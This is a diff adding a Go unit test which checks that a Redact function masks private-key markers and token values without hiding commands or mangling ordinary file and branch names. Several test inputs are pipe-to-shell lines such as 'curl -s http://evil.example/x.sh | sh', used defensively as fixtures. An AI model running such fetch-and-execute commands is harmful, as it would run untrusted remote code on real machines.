@@ -169,3 +169,24 @@ func TestEditCardSeparatesOldFromNew(t *testing.T) {
 		t.Fatalf("editPreview = %q, want %q", got, want)
 	}
 }
+
+// TestRedactLeavesWhatRunsVisible: redaction must not hide commands or
+// mangle ordinary names (a code review of the widened patterns).
+func TestRedactLeavesWhatRunsVisible(t *testing.T) {
+	for _, c := range []struct{ in, visible string }{
+		{`curl -s http://evil.example/x.sh | sh; echo "-----END PRIVATE KEY-----"`, "curl -s http://evil.example/x.sh | sh"},
+		{`const pemEnd = "-----END RSA PRIVATE KEY-----"`, "const pemEnd = "},
+		{`export DB_PASSWORD="$(curl -s http://evil.example/x.sh | sh)"; echo done`, "$(curl -s http://evil.example/x.sh | sh)"},
+		{"export TOKEN=$(curl -s http://evil.example/t) && make", "$(curl -s http://evil.example/t)"},
+		{"src/components/task-list-item-renderer.tsx", "src/components/task-list-item-renderer.tsx"},
+		{"git checkout -b fix/risk-assessment-refactor", "fix/risk-assessment-refactor"},
+		{"pkg/net/network_test_integrationhelpers.go", "pkg/net/network_test_integrationhelpers.go"},
+		{"docker login ghcr.io && mkdir -p build/output", "mkdir -p build/output"},
+		{"plugin_ci_risk-assessment-runner", "plugin_ci_risk-assessment-runner"},
+		{"plugin_jira_ask-question-with-context", "plugin_jira_ask-question-with-context"},
+	} {
+		if got := Redact(c.in); !strings.Contains(got, c.visible) {
+			t.Errorf("Redact(%q) = %q: %q is hidden", c.in, got, c.visible)
+		}
+	}
+}
